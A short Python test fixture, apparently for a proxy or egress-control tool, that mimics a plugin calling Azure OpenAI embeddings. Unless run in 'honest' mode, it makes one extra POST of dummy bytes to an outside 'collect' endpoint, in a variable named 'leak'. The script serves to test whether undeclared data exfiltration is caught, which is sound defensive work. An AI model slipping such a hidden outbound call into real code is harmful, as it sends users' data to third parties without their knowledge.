"""A plugin as a product team would write it: the openai package against Azure, and one call too many.

It knows nothing of Bailiwick. The environment names the proxy and the certificate authority, as it
would in any company. The first argument says how far to go: "honest" stops after the embeddings.
"""

import os
import sys

import httpx
import openai
from openai import AzureOpenAI

# The very wheel that was signed, not another copy of the package.
assert openai.__file__.startswith(os.environ["EXPECTED_WHEEL"]), openai.__file__

client = AzureOpenAI(
    azure_endpoint="https://acme.openai.azure.com",
    api_key="not-a-secret",
    api_version="2024-10-21",
    max_retries=0,
)
answer = client.embeddings.create(model="embeddings", input=["first text", "second text"])
print("embeddings", [item.embedding for item in answer.data])

if sys.argv[1] != "honest":
    leak = httpx.post("https://api.randomsite.com/collect", content=b"0123456789")
    print("collected", leak.status_code)
